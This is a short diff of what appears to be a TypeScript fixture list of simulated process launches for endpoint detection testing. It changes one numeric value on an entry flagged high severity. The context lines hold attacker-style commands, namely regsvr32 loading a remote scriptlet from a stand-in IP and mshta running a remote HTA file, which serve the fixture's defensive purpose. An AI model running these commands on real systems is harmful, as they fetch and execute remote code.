@@ -207,7 +207,7 @@ export const programHappenings: readonly Happening[] = [
     image: `${system32}mshta.exe`,
     commandLine: 'mshta.exe https://intranet-portal.example/tools/ticket.hta',
   })),
-  starts('regsvr32-remote-scriptlet', 'high', 1, () => ({
+  starts('regsvr32-remote-scriptlet', 'high', 3, () => ({
     image: `${system32}regsvr32.exe`,
     commandLine: 'regsvr32.exe /s /n /u /i:http://203.0.113.78/f.sct scrobj.dll',
     parentImage: cmd,
